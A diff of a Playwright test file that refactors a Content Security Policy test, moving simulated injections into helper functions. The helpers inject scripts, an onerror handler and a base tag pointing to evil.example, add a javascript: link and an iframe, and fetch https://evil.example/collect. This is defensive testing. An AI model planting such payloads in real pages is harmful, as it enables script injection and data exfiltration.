@@ -127,32 +127,10 @@ test.describe('the policy of the pages', () => {
       fetched.push(route.request().url());
       return route.fulfill({ contentType: 'text/javascript', body: 'globalThis.hasRun = "a foreign script";' });
     });
-    await page.route(/\/en\/orlando$/u, async (route) => {
-      const response = await route.fetch();
-      const body = (await response.text()).replace(
-        '</body>',
-        `<script>globalThis.hasRun = 'an inline script';</script>
-         <script src="https://evil.example/x.js"></script>
-         <img src="/none.png" onerror="globalThis.hasRun = 'a handler'" alt="">
-         <base href="https://evil.example/"></body>`,
-      );
-      await route.fulfill({ response, body });
-    });
+    await plantMarkup(page, /\/en\/orlando$/u);
     const watch = await watchPolicy(page);
     await page.goto('/en/orlando');
-    await page.evaluate(() => {
-      const script = document.createElement('script');
-      script.textContent = 'globalThis.hasRun = "a script of a script";';
-      document.body.append(script);
-      const link = document.createElement('a');
-      link.href = 'javascript:globalThis.hasRun = "a URL"';
-      document.body.append(link);
-      link.click();
-      const frame = document.createElement('iframe');
-      frame.src = 'https://evil.example/frame';
-      document.body.append(frame);
-      return fetch('https://evil.example/collect').catch(() => undefined);
-    });
+    await page.evaluate(plantByScript);
     let violations: readonly string[] = [];
     await expect(() => {
       violations = [...violations, ...watch.take()];
@@ -173,3 +151,33 @@ test.describe('the policy of the pages', () => {
     await page.getByRole('banner').getByRole('button').first().click();
   });
 });
+
+/** Adds scripts, a handler and another base to the HTML of a page, as an injection would. */
+async function plantMarkup(page: Page, url: RegExp): Promise<void> {
+  await page.route(url, async (route) => {
+    const response = await route.fetch();
+    const body = (await response.text()).replace(
+      '</body>',
+      `<script>globalThis.hasRun = 'an inline script';</script>
+         <script src="https://evil.example/x.js"></script>
+         <img src="/none.png" onerror="globalThis.hasRun = 'a handler'" alt="">
+         <base href="https://evil.example/"></body>`,
+    );
+    await route.fulfill({ response, body });
+  });
+}
+
+/** Adds a script, a link of JavaScript and a frame to the page, and calls another host, as a script of the page could. It runs in the page. */
+function plantByScript(): Promise<unknown> {
+  const script = document.createElement('script');
+  script.textContent = 'globalThis.hasRun = "a script of a script";';
+  document.body.append(script);
+  const link = document.createElement('a');
+  link.href = 'javascript:globalThis.hasRun = "a URL"';
+  document.body.append(link);
+  link.click();
+  const frame = document.createElement('iframe');
+  frame.src = 'https://evil.example/frame';
+  document.body.append(frame);
+  return fetch('https://evil.example/collect').catch(() => undefined);
+}
